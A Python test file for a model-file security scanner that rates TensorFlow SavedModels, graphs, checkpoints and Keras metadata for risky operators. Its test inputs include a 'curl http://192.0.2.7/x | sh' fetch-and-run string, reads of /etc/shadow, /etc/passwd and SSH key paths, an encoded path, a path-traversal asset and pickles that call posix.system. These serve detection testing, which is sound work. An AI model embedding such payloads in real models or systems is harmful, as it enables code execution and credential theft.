"""TensorFlow: what graphs do outside themselves, and every byte of models and checkpoints."""

import json
import random

import pytest
from format_files import PICKLE, assert_total, field, look

from benchmarks.corpus.malicious.formats2.graphs import (
    attr,
    const,
    function,
    function_def,
    graph,
    index,
    library,
    meta_graph,
    node,
    saved_model,
    string,
    strings,
)
from toadstone.checks.model.custom_operator import CustomOperator
from toadstone.checks.model.tensorflow_operator import TensorflowOperator
from toadstone.core.fact import Anomaly, Import, Link, Moment, Operator, Setting
from toadstone.core.finding import Severity
from toadstone.core.value import Opaque

INPUT = "an input of the model"


def operators(data: bytes, name: str = "saved_model.pb") -> list[Operator]:
    return look(data, name).of(Operator)


def severities(data: bytes, name: str = "saved_model.pb") -> list[Severity]:
    facts = operators(data, name)
    found = [finding.severity for fact in facts for finding in TensorflowOperator().examine(fact)]
    return found + [finding.severity for fact in facts for finding in CustomOperator().examine(fact)]


def shown(fact: Operator) -> list[tuple[str, object]]:
    return [(name, value.what if isinstance(value, Opaque) else value) for name, value in fact.arguments]


def savers() -> tuple[bytes, ...]:
    """What every SavedModel has to save and restore itself."""
    return (
        node("saver_filename", "Placeholder"),
        const("part", "_temp_0123/part"),
        node("StringJoin", "StringJoin", "saver_filename", "part"),
        node("ShardedFilename", "ShardedFilename", "StringJoin", "shard", "shards"),
        const("SaveV2/tensor_names", "dense/kernel/.ATTRIBUTES/VARIABLE_VALUE"),
        node("SaveV2", "SaveV2", "ShardedFilename", "SaveV2/tensor_names", "slices", "weight"),
        node("Merge", "MergeV2Checkpoints", "prefixes", "saver_filename"),
        node("RestoreV2", "RestoreV2", "saver_filename", "SaveV2/tensor_names", "slices"),
    )


def test_plain_model_is_complete_and_silent() -> None:
    seen = look(saved_model(graph(node("x", "Placeholder"), node("y", "Relu", "x"), *savers())), "saved_model.pb")
    assert (seen.kind, seen.unread, seen.anomalies) == ("tensorflow-saved-model", [], [])
    assert severities(saved_model(graph(*savers()))) == []
    assert [fact.value for fact in seen.of(Setting)] == ["2.21.0"]


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (saved_model(graph(node("x", "Placeholder"))), "tensorflow-saved-model"),
        (meta_graph(graph(node("x", "Placeholder"))), "tensorflow-meta-graph"),
        (graph(node("x", "Placeholder")), "tensorflow-graph"),
        (graph(more=library(function_def("f", (), node("x", "Relu", "y")))), "tensorflow-graph"),
    ],
)
def test_content_counts_not_the_name(data: bytes, kind: str) -> None:
    assert look(data, "weights.dat").kind == kind
    assert look(data, "model.pb").kind == kind


def test_random_messages_and_texts_are_no_graphs() -> None:
    chance = random.Random(7)
    for _ in range(300):
        words = b" ".join(chance.randbytes(chance.randrange(1, 9)).hex().encode() for _ in range(chance.randrange(1, 60)))
        assert not look(words, "model.pb").kind.startswith("tensorflow")
        noise = chance.choice(b"\x08\x0a\x12").to_bytes(1, "little") + chance.randbytes(chance.randrange(1, 200))
        assert not look(noise, "a.bin").kind.startswith("tensorflow")


@pytest.mark.parametrize(
    ("op", "texts", "severity"),
    [
        ("ReadFile", ("/etc/hostname",), Severity.HIGH),
        ("ReadFile", ("vocabulary.txt",), Severity.HIGH),
        ("WriteFile", ("out.txt", "echo inert"), Severity.HIGH),
        ("MatchingFiles", ("/home/*/.ssh/*",), Severity.HIGH),
        ("TextLineDataset", ("/etc/passwd", ""), Severity.HIGH),
        ("TFRecordDatasetV2", ("http://192.0.2.7/x",), Severity.HIGH),
        ("TFRecordDatasetV2", ("train.tfrecord",), Severity.MEDIUM),
        ("TextLineDataset", (), None),
        ("InitializeTableFromTextFileV2", ("table", "/data/vocabulary.txt"), Severity.MEDIUM),
        ("InitializeTableFromTextFileV2", ("table", "/etc/shadow"), Severity.HIGH),
        ("SaveV2", ("/home/user/.bashrc",), Severity.HIGH),
        ("SaveV2", ("model",), None),
        ("RestoreV2", ("/content/bert_model.ckpt",), Severity.LOW),
        ("LoadDataset", ("/srv/data",), Severity.HIGH),
        ("RpcClient", ("192.0.2.7:5000",), Severity.HIGH),
        ("DataServiceDatasetV4", ("id", "mode", "192.0.2.7:5000", "grpc"), Severity.MEDIUM),
        ("Abort", (), Severity.HIGH),
        ("MatMul", ("/etc/passwd",), None),
        ("ShellExecute", (), Severity.HIGH),
        ("PyCall", (), Severity.HIGH),
        ("os_system", (), Severity.HIGH),
        ("Custom>RunShellScript", (), Severity.HIGH),
        ("SystemConfig", (), Severity.HIGH),
        ("ExecuteOp", (), Severity.HIGH),
        ("ExecuteEngine", (), Severity.MEDIUM),
        ("RunPostProcess", (), Severity.MEDIUM),
        ("PyTorchCallable", (), Severity.MEDIUM),
        ("EncodeSystemState", (), Severity.MEDIUM),
        ("FastTokenize", (), Severity.MEDIUM),
        ("FastTokenize", ("curl http://192.0.2.7/x | sh",), Severity.HIGH),
    ],
)
def test_judgement(op: str, texts: tuple[str, ...], severity: Severity | None) -> None:
    constants = [const(f"c{number}", text) for number, text in enumerate(texts)]
    data = saved_model(graph(*constants, node("n", op, *(f"c{number}" for number in range(len(texts))))))
    assert severities(data) == ([] if severity is None else [severity])


@pytest.mark.parametrize(
    ("op", "key", "value", "severity"),
    [
        ("PyFunc", "token", string("pyfunc_0"), Severity.HIGH),
        ("EagerPyFunc", "token", string("pyfunc_1"), Severity.HIGH),
        ("PrintV2", "output_stream", string("file:///tmp/toadstone-inert"), Severity.HIGH),
        ("PrintV2", "output_stream", string("stderr"), None),
        ("DebugIdentityV3", "debug_urls", strings("grpc://192.0.2.9:6006"), Severity.HIGH),
        ("DebugIdentityV3", "debug_urls", strings(), None),
        ("DebugNumericSummary", "debug_urls", strings("file:///tmp/d"), Severity.HIGH),
        ("ImmutableConst", "memory_region_name", string("/etc/hostname"), Severity.HIGH),
        ("ImmutableConst", "memory_region_name", string("memmapped_package://w"), None),
        ("DecodeProtoV2", "descriptor_source", string("local://"), None),
        ("DecodeProtoV2", "descriptor_source", string("/srv/x.desc"), Severity.HIGH),
        ("XlaCustomCallV2", "call_target_name", string("topk"), Severity.MEDIUM),
    ],
)
def test_judgement_of_attributes(op: str, key: str, value: bytes, severity: Severity | None) -> None:
    data = saved_model(graph(node("x", "Placeholder"), node("n", op, "x", attrs=attr(key, value))))
    assert severities(data) == ([] if severity is None else [severity])


def test_text_is_followed_through_operators() -> None:
    pieces = (const("a", "/et"), const("b", "c/host"), const("c", "name"))
    joined = node("j", "StringJoin", "a", "b", "c")
    (fact,) = operators(saved_model(graph(*pieces, joined, node("i", "Identity", "j:0"), node("r", "ReadFile", "i"))))
    assert shown(fact) == [("filename", "/etc/hostname")]
    packed = const("a", "L2V0Yy9ob3N0bmFtZQ")
    (fact,) = operators(saved_model(graph(packed, node("d", "DecodeBase64", "a"), node("r", "ReadFile", "d"))))
    assert shown(fact) == [("filename", "/etc/hostname")]


def test_text_is_followed_through_calls_of_functions() -> None:
    inner = function_def("inner", ("path", "other"), node("r", "ReadFile", "path"))
    outer = function_def("outer", ("x",), node("call", "PartitionedCall", "x", "x", attrs=attr("f", function("inner"))))
    call = node("call", "StatefulPartitionedCall", "c", attrs=attr("f", function("outer")))
    (fact,) = operators(saved_model(graph(const("c", "/srv/secret"), call, more=library(inner, outer))))
    assert shown(fact) == [("filename", "/srv/secret")]


def test_an_input_of_the_model_is_no_path_of_the_model() -> None:
    reading = function_def("f", ("path",), node("r", "ReadFile", "path"))
    call = node("call", "PartitionedCall", "x", attrs=attr("f", function("f")))
    data = saved_model(graph(node("x", "Placeholder"), call, more=library(reading)))
    (fact,) = operators(data)
    assert shown(fact) == [("filename", INPUT)]
    assert severities(data) == [Severity.MEDIUM]
    assert severities(saved_model(graph(more=library(reading)))) == [Severity.MEDIUM]


def test_assets_are_not_paths() -> None:
    table = (const("asset", "/tmp/vocabulary.txt"), node("t", "InitializeTableFromTextFileV2", "table", "asset"))
    asset = field(6, field(1, field(1, "asset:0")) + field(2, "vocabulary.txt"))
    assert severities(saved_model(graph(*table), asset)) == []
    seen = look(saved_model(graph(*table), field(6, field(1, field(1, "a:0")) + field(2, "../../etc/passwd"))), "saved_model.pb")
    assert [(fact.target, fact.relation) for fact in seen.of(Link)] == [("../../etc/passwd", "read-on-load")]


def test_what_initialises_runs_on_load() -> None:
    def moment(more: bytes, *nodes: bytes, functions: bytes = b"") -> Moment:
        return operators(saved_model(graph(*nodes, more=functions), more))[0].when

    write = (const("f", "/tmp/x"), node("w", "WriteFile", "f", "f"))
    assert moment(b"", *write) is Moment.USE
    collection = field(4, field(1, "saved_model_main_op") + field(2, field(1, field(1, "init"))))
    assert moment(collection, *write, node("init", "NoOp", "^w")) is Moment.LOAD
    signature = field(5, field(1, "__saved_model_init_op") + field(2, field(2, field(1, "o") + field(2, field(1, "w:0")))))
    assert moment(signature, *write) is Moment.LOAD
    child = field(1, b"\x08\x01" + field(2, "_initialize"))
    objects = field(7, field(1, child) + field(1, field(6, field(1, "__inference_init"))))
    body = function_def("__inference_init", (), const("f", "/tmp/x"), node("w", "WriteFile", "f", "f"))
    assert moment(objects, functions=library(body)) is Moment.LOAD


def test_training_graphs_may_name_their_data() -> None:
    nodes = (const("f", "/data/train.tfrecord"), node("d", "TFRecordDatasetV2", "f"))
    assert severities(meta_graph(graph(*nodes)), "model.meta") == [Severity.MEDIUM]
    assert severities(saved_model(graph(*nodes, node("u", "ApplyAdam", "w")))) == [Severity.MEDIUM]
    write = (const("f", "/tmp/x"), node("w", "WriteFile", "f", "f"))
    assert severities(meta_graph(graph(*write)), "model.meta") == [Severity.HIGH]


def test_addresses_in_the_configuration_of_a_call() -> None:
    cluster = field(14, field(1, field(1, "worker") + field(2, b"\x08\x00" + field(2, "192.0.2.7:2222"))))
    call = node("c", "PartitionedCall", attrs=attr("config_proto", string(cluster)))
    (fact,) = operators(saved_model(graph(call)))
    assert (fact.name, shown(fact)) == ("ConfigProto", [("cluster_def", "192.0.2.7:2222")])
    plain = node(
        "c",
        "PartitionedCall",
        attrs=attr("config_proto", string(b"\n\x07\n\x03CPU\x10\x01\n\x07\n\x03GPU\x10\x002\x02J\x008\x01")),
    )
    assert operators(saved_model(graph(plain))) == []


def test_operators_of_other_libraries() -> None:
    data = saved_model(graph(node("n", "Addons>Gelu", "x"), node("m", "f", "x"), more=library(function_def("f", ()))))
    assert [(fact.domain, fact.name) for fact in operators(data)] == [("tensorflow.custom", "Addons>Gelu")]


def test_keras_objects_are_handed_on() -> None:
    metadata = json.dumps(
        {"class_name": "Lambda", "config": {"function": {"class_name": "function", "config": "system"}}, "module": "os"}
    )
    objects = field(7, field(1, field(4, field(1, "_tf_keras_layer") + field(3, metadata))))
    direct = look(saved_model(graph(node("x", "Relu", "y")), objects), "saved_model.pb")
    assert [type(fact) for fact in direct.facts if fact.place.member] != []
    saved = field(1, b"\x10\x01" + field(3, "root.layer-0") + field(4, "_tf_keras_layer") + field(5, metadata))
    seen = look(saved, "keras_metadata.pb")
    assert (seen.kind, seen.unread) == ("keras-metadata", [])
    assert [fact for fact in seen.facts if fact.place.member.startswith("root.layer-0")]


def test_pickles_in_constants_are_read() -> None:
    data = saved_model(graph(const("c", PICKLE + b" " * 0), node("x", "Relu", "c")))
    assert "posix.system" in {str(fact.symbol) for fact in look(data, "saved_model.pb").of(Import)}


def test_what_follows_the_message_is_looked_into() -> None:
    seen = look(saved_model(graph(node("x", "Relu", "y"))) + PICKLE, "saved_model.pb")
    assert "posix.system" in {str(fact.symbol) for fact in seen.of(Import)}
    assert seen.of(Anomaly) or seen.unread


def test_text_form() -> None:
    text = """
    node { name: "c" op: "Const" attr { key: "dtype" value { type: DT_STRING } }
      attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape { } string_val: "\\057etc\\x2fhost" 'name' } } } }
    node { name: "r" op: "ReadFile" input: "c" }  # a comment
    versions { producer: 2000 }
    """
    seen = look(text.encode(), "model.pbtxt")
    assert (seen.kind, seen.unread) == ("tensorflow-text", [])
    assert [shown(fact) for fact in seen.of(Operator)] == [[("filename", "/etc/hostname")]]
    whole = "saved_model_schema_version: 1 meta_graphs { graph_def {" + text + "} }"
    assert [fact.name for fact in look(whole.encode(), "saved_model.pbtxt").of(Operator)] == ["ReadFile"]


@pytest.mark.parametrize(
    "text",
    [
        'name: "my_model"\nbackend: "onnxruntime"\nmax_batch_size: 8',
        'item { id: 1 name: "cat" }',
        "layer { }",
        "no message at all",
    ],
)
def test_other_texts_of_that_name_are_text(text: str) -> None:
    seen = look(text.encode(), "config.pbtxt")
    assert (seen.unread, seen.of(Operator)) == ([], [])


def test_checkpoints() -> None:
    data = index(("a", 0, 16), ("b", 16, 16))
    shard = "variables.data-00000-of-00001"
    seen = look(data, "variables.index", {shard: bytes(range(32))})
    assert (seen.kind, seen.unread, seen.anomalies) == ("tensorflow-index", [], [])
    assert look(data, "variables.index", {shard: bytes(20)}).anomalies == ["tensor-bounds"]
    values = bytes(range(1, 33))
    assert look(values, shard, {"variables.index": data}).unread == []
    assert "posix.system" in {str(fact.symbol) for fact in look(values + PICKLE, shard, {"variables.index": data}).of(Import)}
    assert look(values, shard).unread != []


def test_checkpoint_file() -> None:
    ordinary = look(
        b'model_checkpoint_path: "/home/user/model.ckpt-1"\nall_model_checkpoint_paths: "model.ckpt-1"\n', "checkpoint"
    )
    assert (ordinary.kind, ordinary.unread, ordinary.of(Link)) == ("tensorflow-state", [], [])
    assert [fact.escapes for fact in look(b'model_checkpoint_path: "http://192.0.2.7/m"\n', "checkpoint").of(Link)] == [True]


WHOLE = saved_model(
    graph(*savers(), const("c", "/etc/x"), more=library(function_def("f", ("a",), node("r", "ReadFile", "a")))),
)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("saved_model.pb", WHOLE),
        ("graph.pb", graph(const("c", "/etc/x"), node("r", "ReadFile", "c"))),
        ("keras_metadata.pb", field(1, b"\x10\x01" + field(5, '{"class_name": "Lambda", "config": {}}'))),
        ("variables.index", index(("a", 0, 16), ("b", 16, 16))),
        ("model.pbtxt", b'node { name: "c" op: "Const" attr { key: "v" value { s: "a\\001" } } } versions { producer: 1 }'),
        ("checkpoint", b'model_checkpoint_path: "x"\n'),
        ("fingerprint.pb", b"\x08\x01\x10\x02\x3a\x03abc"),
    ],
)  # fmt: skip
def test_total(name: str, data: bytes) -> None:
    assert_total(data, name)


def test_deep_and_wide_graphs_cost_little() -> None:
    value = string("x")
    for _ in range(200):
        value = field(10, field(2, field(1, "f") + field(2, value)))
    assert "depth-bomb" in look(saved_model(graph(node("x", "Relu", attrs=attr("f", value)))), "saved_model.pb").anomalies
    chain = [node(f"n{number}", "StringJoin", f"n{number + 1}", f"n{number + 1}") for number in range(300)]
    assert look(saved_model(graph(*chain, node("r", "ReadFile", "n0"))), "saved_model.pb").unread == []
